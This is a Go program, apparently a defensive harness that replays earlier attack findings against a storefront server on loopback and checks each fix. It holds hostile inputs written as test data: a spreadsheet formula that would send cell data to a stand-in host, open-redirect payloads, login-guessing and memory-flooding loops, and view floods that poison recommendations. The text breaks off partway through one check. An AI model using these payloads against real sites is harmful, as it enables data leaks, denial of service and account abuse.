// Command attack replays the findings of an outside attack against the real
// storefront binary on loopback and checks that none of them works any
// more. It seeds a small demo world in a temporary directory, trains, starts
// `storefront serve`, attacks it with bounded loops, and prints one line per
// check with the figures (RSS of the server before and after the memory
// attack, counts). It exits non-zero when any check fails.
//
//	go run ./bench/attack --bin bin/storefront --addr 127.0.0.1:18100
//
// (`make attack` does this.) It needs Linux: the server's memory is read
// from /proc, and clients take several loopback source addresses
// (127.0.0.0/8) to act as different people.
package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"storefront/models"
	"storefront/recommender"
	"storefront/seed"
)

func main() {
	bin := flag.String("bin", "bin/storefront", "the storefront binary to attack")
	addr := flag.String("addr", "127.0.0.1:18100", "loopback address to serve on")
	keep := flag.Bool("keep", false, "keep the temporary directory (database, server log)")
	only := flag.String("only", "", "run only these attacks (comma-separated: timestamps, limiter, lockout, deletion, demo-passwords, redirects, csv, also-seen, second … twentyfirst, twentysecond); empty: all")
	flag.Parse()
	if err := run(*bin, *addr, *keep, *only); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

type attack struct {
	bin    string // the storefront binary
	base   string
	dbPath string
	server *exec.Cmd
	apiKey string // all scopes
	evKey  string // events scope only
	// floodKey is a key of its own for the seventh attack's flood, so
	// the other checks' keys keep their allowance.
	floodKey string
	// eventsFloodKey is an events key of its own for the eighth attack.
	eventsFloodKey string
	metrics        string
	failed         int
	// staffPasswords are the current passwords of the demo staff.
	staffPasswords map[string]string
	relay          *relay // the shop's email
}

func (a *attack) check(name string, ok bool, format string, args ...any) {
	mark := "ok  "
	if !ok {
		mark = "FAIL"
		a.failed++
	}
	fmt.Printf("%s %-58s %s\n", mark, name, fmt.Sprintf(format, args...))
}

func run(bin, addr string, keep bool, only string) error {
	if host, _, err := net.SplitHostPort(addr); err != nil || !net.ParseIP(host).IsLoopback() {
		return fmt.Errorf("--addr %s: attack only a loopback address", addr)
	}
	dir, err := os.MkdirTemp("", "storefront-attack-")
	if err != nil {
		return err
	}
	if keep {
		fmt.Println("working directory:", dir)
	} else {
		defer os.RemoveAll(dir)
	}
	a := &attack{bin: bin, base: "http://" + addr, dbPath: filepath.Join(dir, "shop.db"), metrics: "attack-metrics-token-0123456789",
		staffPasswords: map[string]string{seed.DemoAdminEmail: seed.DemoAdminPassword}}
	start := time.Now()
	for _, args := range [][]string{{"seed", "--db", a.dbPath}, {"train", "--db", a.dbPath}} {
		if out, err := exec.Command(bin, args...).CombinedOutput(); err != nil {
			return fmt.Errorf("%s %s: %v\n%s", bin, args[0], err, out)
		}
	}
	if err := a.makeKeys(); err != nil {
		return err
	}
	fmt.Printf("seeded and trained a small demo world in %s\n", time.Since(start).Round(time.Second))
	logf, err := os.Create(filepath.Join(dir, "serve.log"))
	if err != nil {
		return err
	}
	defer logf.Close()
	// 127.0.0.9 plays the reverse proxy of docs/scaling.md (second attack).
	if a.relay, err = startRelay(); err != nil {
		return err
	}
	a.server = exec.Command(bin, "serve", "--db", a.dbPath, "--addr", addr, "--train-every", "0", "--trusted-proxies", proxyAddr,
		"--smtp-addr", a.relay.addr, "--mail-from", "Attacked Shop <shop@example.com>", "--public-url", a.base)
	a.server.Env = append(os.Environ(), "STOREFRONT_METRICS_TOKEN="+a.metrics)
	a.server.Stdout, a.server.Stderr = logf, logf
	if err := a.server.Start(); err != nil {
		return err
	}
	defer func() {
		a.server.Process.Signal(os.Interrupt)
		done := make(chan error, 1)
		go func() { done <- a.server.Wait() }()
		select {
		case <-done:
		case <-time.After(20 * time.Second):
			a.server.Process.Kill()
		}
	}()
	if err := a.waitReady(); err != nil {
		return err
	}

	for _, step := range []struct {
		name string
		run  func()
	}{
		{"timestamps", a.timestamps}, {"limiter", a.limiterMemory}, {"lockout", a.lockout}, {"deletion", a.deletion},
		{"demo-passwords", a.demoPasswords}, {"redirects", a.redirects}, {"csv", a.csvFormulas}, {"also-seen", a.alsoSeen},
		{"second", a.secondAttack}, {"third", a.thirdAttack}, {"fourth", a.fourthAttack}, {"fifth", a.fifthAttack},
		{"sixth", a.sixthAttack}, {"seventh", a.seventhAttack}, {"eighth", a.eighthAttack}, {"ninth", a.ninthAttack},
		{"tenth", a.tenthAttack}, {"eleventh", a.eleventhAttack}, {"twelfth", a.twelfthAttack},
		{"thirteenth", a.thirteenthAttack}, {"fourteenth", a.fourteenthAttack},
		{"fifteenth", a.fifteenthAttack}, {"sixteenth", a.sixteenthAttack}, {"seventeenth", a.seventeenthAttack},
		{"eighteenth", a.eighteenthAttack}, {"nineteenth", a.nineteenthAttack}, {"twentieth", a.twentiethAttack},
		{"twentyfirst", a.twentyFirstAttack},
		{"twentysecond", a.twentySecondAttack},
	} {
		if only == "" || slices.Contains(strings.Split(only, ","), step.name) {
			step.run()
		}
	}
	if a.failed > 0 {
		return fmt.Errorf("%d check(s) failed", a.failed)
	}
	fmt.Println("no finding reproduced")
	return nil
}

func (a *attack) makeKeys() error {
	db, err := models.Open(a.dbPath)
	if err != nil {
		return err
	}
	defer db.Close()
	ctx := context.Background()
	if a.apiKey, _, err = db.CreateAPIKey(ctx, "attack", "attack all", models.ScopeAll); err != nil {
		return err
	}
	if a.evKey, _, err = db.CreateAPIKey(ctx, "attack", "attack events", models.ScopeEvents); err != nil {
		return err
	}
	if a.floodKey, _, err = db.CreateAPIKey(ctx, "attack", "attack flood", models.ScopeAll); err != nil {
		return err
	}
	if a.eventsFloodKey, _, err = db.CreateAPIKey(ctx, "attack", "attack events flood", models.ScopeEvents); err != nil {
		return err
	}
	if err := ninthImageHosts(db); err != nil {
		return err
	}
	if err := eleventhName(db); err != nil {
		return err
	}
	if err := twelfthPlant(db); err != nil {
		return err
	}
	// A supplier's title that is a spreadsheet formula (second attack).
	return db.W.Model(&models.Product{}).Where("external_id = ?", "SKU-10002").Update("title", catalogFormula).Error
}

// proxyAddr is the reverse proxy's address the server is told to trust.
const proxyAddr = "127.0.0.9"

const catalogFormula = `=HYPERLINK("//evil.example/?"&A2,"Tent")`

func (a *attack) waitReady() error {
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		if res, err := http.Get(a.base + "/healthz"); err == nil {
			res.Body.Close()
			return nil
		}
		time.Sleep(200 * time.Millisecond)
	}
	return errors.New("the server did not answer /healthz within 60 s")
}

// client is a browser from one loopback source address, with cookies,
// that does not follow redirects.
type client struct {
	a  *attack
	hc *http.Client
}

func (a *attack) client(source string) *client {
	jar, _ := cookiejar.New(nil)
	d := &net.Dialer{Timeout: 5 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(source)}}
	// A connection per request: the attack makes hundreds of clients from
	// one address, and idle connections kept by each would count against
	// the address's bound of open connections (thirteenth attack).
	tr := &http.Transport{DialContext: d.DialContext, DisableKeepAlives: true}
	return &client{a: a, hc: &http.Client{Jar: jar, Transport: tr, Timeout: 60 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

var csrfField = regexp.MustCompile(`name="_csrf" value="([^"]+)"`)

func (c *client) get(path string) (*http.Response, string) {
	res, err := c.hc.Get(c.a.base + path)
	if err != nil {
		return &http.Response{StatusCode: 0, Header: http.Header{}}, err.Error()
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, string(b)
}

func (c *client) token(path string) string {
	_, body := c.get(path)
	if m := csrfField.FindStringSubmatch(body); m != nil {
		return m[1]
	}
	return ""
}

func (c *client) post(path string, form url.Values) (*http.Response, string) {
	res, err := c.hc.PostForm(c.a.base+path, form)
	if err != nil {
		return &http.Response{StatusCode: 0, Header: http.Header{}}, err.Error()
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, string(b)
}

func (c *client) login(path, email, password string) int {
	res, _ := c.post(path, url.Values{"_csrf": {c.token(path)}, "email": {email}, "password": {password}})
	return res.StatusCode
}

// staffLogin logs a demo staff account in, choosing the new password the
// first login asks for; it returns the status of the login.
func (c *client) staffLogin(email string) int {
	pw := c.a.staffPasswords[email]
	res, _ := c.post("/admin/login", url.Values{"_csrf": {c.token("/admin/login")}, "email": {email}, "password": {pw}})
	if res.StatusCode == http.StatusSeeOther && res.Header.Get("Location") == "/admin/password" {
		fresh := "attack-chosen staff password " + strconv.Itoa(len(c.a.staffPasswords))
		res, _ := c.post("/admin/password", url.Values{"_csrf": {c.token("/admin/password")}, "password": {fresh}, "confirm": {fresh}})
		if res.StatusCode != http.StatusSeeOther {
			return res.StatusCode
		}
		c.a.staffPasswords[email] = fresh
	}
	return res.StatusCode
}

func (a *attack) api(method, path, key, body string) (int, string) {
	req, _ := http.NewRequest(method, a.base+path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Authorization", "Bearer "+key)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(b)
}

// rssMiB reads the server's resident memory.
func (a *attack) rssMiB() float64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", a.server.Process.Pid))
	if err != nil {
		return -1
	}
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "VmRSS:" {
			kb, _ := strconv.ParseFloat(f[1], 64)
			return kb / 1024
		}
	}
	return -1
}

// 1. A future-dated event took over training's "now".
func (a *attack) timestamps() {
	for _, ts := range []string{"9999-12-31T23:59:59Z", "1000-01-01T00:00:00Z", "0001-01-01T00:00:00Z",
		time.Now().Add(72 * time.Hour).UTC().Format(time.RFC3339)} {
		body := fmt.Sprintf(`{"events":[{"user_id":"attacker-ts","product_id":"SKU-10001","type":"purchase","timestamp":%q}]}`, ts)
		status, out := a.api("POST", "/api/v1/events", a.apiKey, body)
		a.check("event dated "+ts[:10]+" refused", status == 422 && strings.Contains(out, "field timestamp"), "%d %s", status, firstLine(out, 110))
	}
	status, out := a.api("POST", "/api/v1/events", a.apiKey, `{"events":[{"user_id":"attacker-ts","product_id":"SKU-10001","type":"purchase","value":-50}]}`)
	a.check("negative purchase value refused", status == 422, "%d %s", status, firstLine(out, 80))
}

// 2. 1 MB e-mails grew the server by 600 MB through the login limiter.
func (a *attack) limiterMemory() {
	huge := strings.Repeat("a", 1<<20)
	before := a.rssMiB()
	start := time.Now()
	codes := map[int]int{}
	for i, path := range repeatPaths(400, 50, 50) {
		c := a.client("127.0.0.1")
		tok := c.token(path)
		res, _ := c.post(path, url.Values{"_csrf": {tok}, "name": {"x"}, "email": {huge + strconv.Itoa(i) + "@example.com"}, "password": {"wrong password 1"}})
		codes[res.StatusCode]++
	}
	after := a.rssMiB()
	time.Sleep(3 * time.Second)
	settled := a.rssMiB()
	a.check("500 logins/registrations with 1 MiB e-mails", settled-before < 150,
		"RSS %.0f MiB before, %.0f MiB right after, %.0f MiB 3 s later (%s; answers %v)", before, after, settled, time.Since(start).Round(time.Second), codes)
}

func repeatPaths(login, register, admin int) []string {
	var out []string
	for range login {
		out = append(out, "/login")
	}
	for range register {
		out = append(out, "/register")
	}
	for range admin {
		out = append(out, "/admin/login")
	}
	return out
}

// 5. 300 attempts from one address over 30 accounts locked the owners out.
func (a *attack) lockout() {
	attacker := a.client("127.0.0.3")
	tok := attacker.token("/login")
	refused := 0
	for i := range 300 {
		res, _ := attacker.post("/login", url.Values{"_csrf": {tok}, "email": {shopperEmail(i%30 + 1)}, "password": {"guess " + strconv.Itoa(i)}})
		if res.StatusCode == http.StatusTooManyRequests {
			refused++
		}
	}
	ok := 0
	for i := range 30 {
		owner := a.client(fmt.Sprintf("127.0.1.%d", i+10))
		if owner.login("/login", shopperEmail(i+1), seed.ShopperPassword) == http.StatusSeeOther {
			ok++
		}
	}
	a.check("one address cannot lock 30 owners out", ok == 30, "attacker refused %d of 300; %d of 30 owners then logged in from their own address", refused, ok)
	staff := a.client("127.0.0.4")
	tok = staff.token("/admin/login")
	for i := range 40 {
		staff.post("/admin/login", url.Values{"_csrf": {tok}, "email": {seed.DemoAdminEmail}, "password": {"guess " + strconv.Itoa(i)}})
	}
	admin := a.client("127.0.1.200")
	status := admin.staffLogin(seed.DemoAdminEmail)
	a.check("40 guesses from one address do not lock the admin out", status == http.StatusSeeOther, "admin login from another address: %d", status)
}

func shopperEmail(n int) string { return fmt.Sprintf("shopper%05d@example.com", n) }

// 3 and 4. A deleted shopper was still served, and a second device outlived
// the deletion.
func (a *attack) deletion() {
	user := seed.DemoShopperID
	recs := func() string {
		_, out := a.api("GET", "/api/v1/recommendations?n=10&user_id="+user, a.apiKey, "")
		return out
	}
	before := recs()
	laptop, phone := a.client("127.0.2.1"), a.client("127.0.2.2")
	for _, c := range []*client{laptop, phone} {
		if s := c.login("/login", seed.DemoShopperEmail, seed.DemoShopperPassword); s != http.StatusSeeOther {
			a.check("demo shopper logs in", false, "%d", s)
			return
		}
	}
	// Third attack: an open session alone could delete the account.
	res, body := laptop.post("/account/delete", url.Values{"_csrf": {laptop.token("/account")}, "confirm": {"yes"}})
	// Refused at the field (422) since the accessibility audit; builds
	// before it went back to the account page.
	refused := res.StatusCode == http.StatusUnprocessableEntity && strings.Contains(body, "Your account was not deleted.") ||
		res.StatusCode == http.StatusSeeOther && res.Header.Get("Location") == "/account#privacy"
	a.check("an open session cannot delete the account without its password", refused,
		"without the password: %d to %q", res.StatusCode, res.Header.Get("Location"))
	res, _ = laptop.post("/account/delete", url.Values{"_csrf": {laptop.token("/account")}, "confirm": {"yes"}, "current": {seed.DemoShopperPassword}})
	a.check("account deleted", res.StatusCode == http.StatusSeeOther && res.Header.Get("Location") == "/?deleted=1", "%d to %q", res.StatusCode, res.Header.Get("Location"))
	after := recs()
	a.check("API serves the deleted shopper like a stranger", strings.Contains(before, "you") && !strings.Contains(after, "you"),
		"before: %s… after: %s…", reasonSample(before), reasonSample(after))
	res, _ = phone.get("/account")
	a.check("second device signed out to the login page", res.StatusCode == http.StatusSeeOther && strings.HasPrefix(res.Header.Get("Location"), "/login"),
		"%d %s", res.StatusCode, res.Header.Get("Location"))
	tok := phone.token("/cart")
	phone.post("/cart/add", url.Values{"_csrf": {tok}, "product_id": {"1"}, "quantity": {"1"}})
	res, _ = phone.post("/checkout", url.Values{"_csrf": {tok}, "idempotency_key": {"attack-after-delete"}, "name": {seed.DemoShopperName},
		"email": {seed.DemoShopperEmail}, "street": {"1 Main St"}, "city": {"Town"}, "postcode": {"12345"}, "country": {"US"}})
	a.check("second device cannot check out", res.StatusCode != http.StatusSeeOther || strings.HasPrefix(res.Header.Get("Location"), "/login"),
		"%d %s", res.StatusCode, res.Header.Get("Location"))

	// The stored models, read from the database while the shop serves.
	db, err := models.Open(a.dbPath)
	if err != nil {
		a.check("open the database", false, "%v", err)
		return
	}
	defer db.Close()
	ctx := context.Background()
	var holding, total int
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(500 * time.Millisecond) {
		holding, total = 0, 0
		arts, _ := db.ModelArtifacts(ctx)
		for _, info := range arts {
			art, err := db.ModelArtifactByID(ctx, info.ID)
			if err != nil {
				continue
			}
			total++
			if m, err := recommender.Load(bytes.NewReader(art.Blob)); err == nil && m.KnownUser(user) {
				holding++
			}
		}
		if holding == 0 || time.Now().After(deadline) {
			break
		}
	}
	a.check("stored models no longer hold the deleted shopper", holding == 0 && total > 0, "%d of %d artifacts hold them", holding, total)
	var personal int64
	db.R.Model(&models.Order{}).Where("email = ? OR name = ?", seed.DemoShopperEmail, seed.DemoShopperName).Count(&personal)
	a.check("no order keeps the deleted shopper's name or e-mail", personal == 0, "%d orders", personal)
}

func reasonSample(apiAnswer string) string {
	var out struct {
		Items []struct{ Reason string } `json:"recommended_items"`
	}
	json.Unmarshal([]byte(apiAnswer), &out)
	if len(out.Items) == 0 {
		return firstLine(apiAnswer, 40)
	}
	return out.Items[0].Reason
}

// The demo staff passwords are published: they work once, for choosing a
// new one.
func (a *attack) demoPasswords() {
	c := a.client("127.0.3.3")
	res, _ := c.post("/admin/login", url.Values{"_csrf": {c.token("/admin/login")}, "email": {seed.DemoMerchEmail}, "password": {seed.DemoMerchPassword}})
	forced := res.StatusCode == http.StatusSeeOther && res.Header.Get("Location") == "/admin/password"
	res, _ = c.get("/admin/layout")
	a.check("published demo password must be changed first", forced && res.StatusCode == http.StatusSeeOther && res.Header.Get("Location") == "/admin/password",
		"login to %q, then /admin/layout to %q", "/admin/password", res.Header.Get("Location"))
}

// 6. Open redirect through next= and slot links.
func (a *attack) redirects() {
	for _, next := range []string{"/\t/evil.example/phish", "/\\evil.example", "//evil.example", "/%09/evil.example"} {
		c := a.client("127.0.3.1")
		res, _ := c.post("/login", url.Values{"_csrf": {c.token("/login?next=" + url.QueryEscape(next))}, "email": {shopperEmail(40)},
			"password": {seed.ShopperPassword}, "next": {next}})
		a.check(fmt.Sprintf("login with next=%q stays on the site", next), res.StatusCode == http.StatusSeeOther && res.Header.Get("Location") == "/",
			"%d to %q", res.StatusCode, res.Header.Get("Location"))
	}
}

// 7. A formula in the slot column of the analytics export.
func (a *attack) csvFormulas() {
	formula := `=HYPERLINK("//evil.example","x")`
	status, _ := a.api("POST", "/api/v1/events", a.apiKey, fmt.Sprintf(`{"events":[{"user_id":"attacker-csv","product_id":"SKU-10001","type":"click","slot":%q}]}`, formula))
	admin := a.client("127.0.3.2")
	if s := admin.staffLogin(seed.DemoAdminEmail); s != http.StatusSeeOther {
		a.check("admin logs in", false, "%d", s)
		return
	}
	today := time.Now().UTC().Format(time.DateOnly)
	res, body := admin.get("/admin/analytics.csv?from=" + today + "&to=" + today)
	recs, _ := csv.NewReader(strings.NewReader(body)).ReadAll()
	bad, seen := 0, false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				bad++
			}
			seen = seen || strings.Contains(cell, "HYPERLINK")
		}
	}
	a.check("analytics CSV holds no live formula", res.StatusCode == 200 && status == 202 && seen && bad == 0,
		"event %d, CSV %d with %d rows, formula cell present: %t, unguarded cells: %d", status, res.StatusCode, len(recs), seen, bad)
}

// 8 and the "also seen" list.
func (a *attack) alsoSeen() {
	c := a.client("127.0.4.1")
	tok := c.token("/")
	req, _ := http.NewRequest("POST", a.base+"/cart/add", strings.NewReader("_csrf="+tok+"&pad="+strings.Repeat("a", 3<<20)))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if res, err := c.hc.Do(req); err == nil {
		res.Body.Close()
		a.check("413 carries the security headers", res.StatusCode == 413 && res.Header.Get("Content-Security-Policy") != "" && res.Header.Get("X-Frame-Options") != "",
			"%d CSP=%t", res.StatusCode, res.Header.Get("Content-Security-Policy") != "")
	}
	hops, path := 0, "/static/"
	for ; hops < 5; hops++ {
		res, _ := c.get(path)
		if res.StatusCode < 300 || res.StatusCode >= 400 {
			break
		}
		path = res.Header.Get("Location")
		if u, err := url.Parse(path); err == nil {
			path = u.RequestURI()
		}
	}
	a.check("/static/ does not redirect in a loop", hops < 3, "%d redirects", hops)
	status, out := a.api("GET", "/api/v1/recommendations?user_id=u00001", a.evKey, "")
	a.check("wrong-scope API key gets a JSON error", status == 403 && strings.Contains(out, `"error"`) && strings.Contains(out, "API key"), "%d %s", status, firstLine(out, 90))
	res, _ := c.post("/cart/add?_csrf="+url.QueryEscape(tok), url.Values{"product_id": {"1"}, "quantity": {"1"}})
	a.check("CSRF token in the query string refused", res.StatusCode == http.StatusForbidden, "%d", res.StatusCode)
	res, _ = c.get("/metrics")
	a.check("/metrics without the token refused", res.StatusCode == http.StatusUnauthorized, "%d", res.StatusCode)
	req, _ = http.NewRequest("GET", a.base+"/metrics", nil)
	req.Header.Set("Authorization", "Bearer "+a.metrics)
	if res, err := http.DefaultClient.Do(req); err == nil {
		res.Body.Close()
		a.check("/metrics with the token served", res.StatusCode == http.StatusOK, "%d", res.StatusCode)
	}
}

// The second attack (4 December 2026).
func (a *attack) secondAttack() {
	// High: behind the reverse proxy every client was the proxy's address,
	// so one client's wrong passwords made every shopper's login wait.
	proxy := a.client(proxyAddr)
	tok := proxy.token("/login")
	via := func(client string) map[string]string { return map[string]string{"X-Forwarded-For": client} }
	refused := 0
	for i := range 15 {
		res, _ := proxy.postWith("/login", url.Values{"_csrf": {tok}, "email": {shopperEmail(50 + i)}, "password": {"guess"}}, via("203.0.113.66"))
		if res.StatusCode == http.StatusTooManyRequests {
			refused++
		}
	}
	victim := a.client(proxyAddr)
	res, _ := victim.postWith("/login", url.Values{"_csrf": {victim.token("/login")}, "email": {shopperEmail(70)}, "password": {seed.ShopperPassword}}, via("198.51.100.7"))
	a.check("behind the proxy one client's guesses leave others' logins", refused > 0 && res.StatusCode == http.StatusSeeOther,
		"attacker refused %d of 15; another client through the proxy: %d", refused, res.StatusCode)

	// Medium: pages with a shopper's orders and address had no cache header.
	shopper := a.client("127.0.5.1")
	shopper.login("/login", shopperEmail(71), seed.ShopperPassword) // the demo shopper was deleted above
	res, _ = shopper.get("/orders")
	a.check("a signed-in shopper's orders are not cached", res.StatusCode == 200 && strings.Contains(strings.Join(res.Header.Values("Cache-Control"), ","), "no-store"),
		"%d Cache-Control %q", res.StatusCode, res.Header.Values("Cache-Control"))

	// Medium: shoppers could not change their password at all; staff could
	// without the current one.
	res, _ = shopper.get("/account/password")
	a.check("a shopper can change their password", res.StatusCode == 200, "/account/password: %d", res.StatusCode)
	admin := a.client("127.0.5.2")
	if s := admin.staffLogin(seed.DemoAdminEmail); s != http.StatusSeeOther {
		a.check("admin logs in", false, "%d", s)
		return
	}
	taken := "taken over by the attacker"
	res, _ = admin.post("/admin/password", url.Values{"_csrf": {admin.token("/admin/password")}, "password": {taken}, "confirm": {taken}})
	a.check("an open admin session cannot set a new password", res.StatusCode == http.StatusUnprocessableEntity, "without the current password: %d", res.StatusCode)

	// Low: the catalog export wrote a supplier's formula raw.
	res, body := admin.get("/admin/catalog.csv")
	recs, _ := csv.NewReader(strings.NewReader(body)).ReadAll()
	bad, seen := 0, false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				bad++
			}
			seen = seen || strings.Contains(cell, "HYPERLINK")
		}
	}
	a.check("catalog CSV holds no live formula", res.StatusCode == 200 && seen && bad == 0,
		"CSV %d with %d rows, formula title present: %t, unguarded cells: %d", res.StatusCode, len(recs), seen, bad)
}

// thirdAttack replays the third outside attack's findings.
func (a *attack) thirdAttack() {
	// High on PostgreSQL: a NUL (or bytes that are not UTF-8) in a search
	// failed the batch of page views written with it. Refused now with a
	// 400 naming the field, from the events API with a 422.
	c := a.client("127.0.6.1")
	res, body := c.get("/search?q=x%00")
	a.check("a search holding a NUL is refused", res.StatusCode == http.StatusBadRequest && strings.Contains(body, "address parameter"), "%d", res.StatusCode)
	status, out := a.api(http.MethodPost, "/api/v1/events", a.evKey, `{"events":[{"user_id":"u\u0000x","type":"search","query":"tent"}]}`)
	a.check("an API event holding a NUL is refused", status == http.StatusUnprocessableEntity && strings.Contains(out, "field user_id"), "%d %s", status, firstLine(out, 100))

	// Medium: leading white space made "staff:"+email a fresh account for
	// the limiter while the login trimmed it: guesses spread over
	// addresses were not limited per account. 24 guesses at the
	// merchandiser's account (20 a burst), each from its own address and
	// spelling.
	refused := 0
	for i := range 24 {
		g := a.client("127.0.7." + strconv.Itoa(i+1))
		spelling := strings.Repeat(" ", i%4) + strings.Repeat("\t", i/4) + seed.DemoMerchEmail
		res, _ := g.post("/admin/login", url.Values{"_csrf": {g.token("/admin/login")}, "email": {spelling}, "password": {"guess " + strconv.Itoa(i)}})
		if res.StatusCode == http.StatusTooManyRequests {
			refused++
		}
	}
	a.check("every spelling of an account spends its login allowance", refused > 0, "%d of 24 guesses, each from its own address, refused", refused)
}

// fourthAttack replays the fourth outside attack's findings (docs/security.md).
func (a *attack) fourthAttack() {
	// Medium: a session holding only a visitor's message (add to cart
	// without signing in) was stored for 14 days and never deleted: a
	// script posting under fresh cookies grew the sessions table without
	// end (200 posts a second). Such a session lasts an hour and is
	// deleted once its message is shown.
	product := "1"
	if db, err := models.Open(a.dbPath); err == nil {
		var id uint
		db.R.Model(&models.Product{}).Where("active AND stock > 0").Order("id").Limit(1).Pluck("id", &id)
		db.Close()
		product = strconv.FormatUint(uint64(id), 10)
	}
	// High: every request without a visitor cookie was a new visitor, so
	// one client's loop of cookieless views was a crowd viewing one
	// product (1,500 in 5 s made it "Popular this week" for everyone).
	// One address has at most 30 new visitors a minute tracked.
	crowd := a.client("127.0.8.4")
	views := func() int64 {
		var n int64
		if db, err := models.Open(a.dbPath); err == nil {
			db.R.Model(&models.Event{}).Where("type = ? AND product_id = ? AND user_key LIKE ?", models.EventView, product, "v:%").Count(&n)
			db.Close()
		}
		return n
	}
	res, _ := crowd.get("/p/" + product)
	page := res.Header.Get("Location") // the product's own address
	if page == "" {
		page = "/p/" + product
	}
	before := views()
	for range 300 {
		crowd.hc.Jar, _ = cookiejar.New(nil)
		crowd.get(page)
	}
	time.Sleep(2 * time.Second) // the event writer's batches
	recorded := views() - before
	a.check("one address cannot pose as a crowd of visitors", recorded <= 35, "300 cookieless views of one product: %d recorded", recorded)

	var tokens []string
	long := 0
	var last *client
	var lastRes *http.Response
	for range 40 {
		c := a.client("127.0.8.1")
		res, _ := c.post("/cart/add", url.Values{"_csrf": {c.token("/login")}, "product_id": {product}, "quantity": {"1"}})
		for _, ck := range res.Cookies() {
			if ck.Name == "sf_session" {
				tokens = append(tokens, ck.Value)
				if time.Until(ck.Expires) > 61*time.Minute {
					long++
				}
			}
		}
		last, lastRes = c, res
	}
	a.check("a visitor's message session lasts an hour", len(tokens) == 40 && long == 0, "%d of %d sessions expire later than an hour", long, len(tokens))
	if lastRes != nil && lastRes.Header.Get("Location") != "" && len(tokens) > 0 {
		last.get(lastRes.Header.Get("Location"))
		if db, err := models.Open(a.dbPath); err == nil {
			_, found, err := db.Sessions().FindCtx(context.Background(), tokens[len(tokens)-1])
			db.Close()
			a.check("a visitor's session is deleted once its message is shown", err == nil && !found, "still stored: %t %v", found, err)
		} else {
			a.check("a visitor's session is deleted once its message is shown", false, "open the database: %v", err)
		}
	}

	// Medium: a password an admin gave a staff member logged in forever
	// until its owner replaced it. It expires after
	// models.GivenPasswordLifetime (the given time moved back here).
	admin := a.client("127.0.8.2")
	admin.staffLogin(seed.DemoAdminEmail)
	_, body := admin.post("/admin/staff", url.Values{"_csrf": {admin.token("/admin/staff")}, "email": {"new-colleague@example.com"},
		"name": {"New colleague"}, "role": {models.RoleMerchandiser}})
	m := givenPassword.FindStringSubmatch(body)
	if m == nil {
		a.check("a given staff password expires", false, "no password shown at Add staff")
		return
	}
	if db, err := models.Open(a.dbPath); err == nil {
		err = db.W.Model(&models.Staff{}).Where("email = ?", "new-colleague@example.com").
			Update("password_given_at", time.Now().Add(-models.GivenPasswordLifetime-time.Hour).UTC()).Error
		db.Close()
		if err != nil {
			a.check("a given staff password expires", false, "age it: %v", err)
			return
		}
	}
	g := a.client("127.0.8.3")
	res, body = g.post("/admin/login", url.Values{"_csrf": {g.token("/admin/login")}, "email": {"new-colleague@example.com"}, "password": {m[1]}})
	a.check("a given staff password expires", res.StatusCode == http.StatusUnauthorized && strings.Contains(body, "has expired unused"),
		"login %s after it was given: %d", models.GivenPasswordLifetime+time.Hour, res.StatusCode)
}

var givenPassword = regexp.MustCompile(`data-testid="password"[^>]*>([^<]+)<`)

// postWith is post with extra headers.
func (a *attack) fifthAttack() {
	// High (the fourth attack's open item): the per-address budget slowed
	// one client, but many addresses were still a crowd: 1,500 cookieless
	// views of a product nobody buys, 25 from each of 60 addresses (each
	// under its budget), put it in "Popular this week" and "Trending now"
	// for every new visitor after the next training. Popularity and
	// trending now count shoppers by what they did, and views by what the
	// shop's buyers make of them.
	db, err := models.Open(a.dbPath)
	if err != nil {
		a.check("open the database", false, "%v", err)
		return
	}
	var cold struct {
		ID         uint
		ExternalID string
	}
	db.R.Raw(`SELECT p.id, p.external_id FROM products p LEFT JOIN events e ON e.product_id = p.id
		WHERE p.active AND p.stock > 0 GROUP BY p.id, p.external_id ORDER BY COUNT(e.id), p.id LIMIT 1`).Scan(&cold)
	db.Close()
	page := "/p/" + strconv.FormatUint(uint64(cold.ID), 10)
	if res, _ := a.client("127.0.9.1").get(page); res.Header.Get("Location") != "" {
		page = res.Header.Get("Location") // the product's own address
	}
	views := func() (n int64) {
		if db, err := models.Open(a.dbPath); err == nil {
			db.R.Model(&models.Event{}).Where("type = ? AND product_id = ?", models.EventView, cold.ID).Count(&n)
			db.Close()
		}
		return n
	}
	before := views()
	var wg sync.WaitGroup
	for i := range 60 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c := a.client(fmt.Sprintf("127.0.9.%d", i+1))
			for range 25 {
				c.hc.Jar, _ = cookiejar.New(nil)
				c.get(page)
			}
		}()
	}
	wg.Wait()
	time.Sleep(2 * time.Second) // the event writer's batches
	recorded := views() - before
	retrained, ok := a.retrainAsAdmin("127.0.5.3")
	if !ok {
		return
	}
	_, popular := a.api("GET", "/api/v1/recommendations?user_id=fifth-attack-1&n=20&strategy=popular", a.apiKey, "")
	_, trending := a.api("GET", "/api/v1/recommendations?user_id=fifth-attack-2&n=20&strategy=trending", a.apiKey, "")
	item := `"item_id":"` + cold.ExternalID + `"`
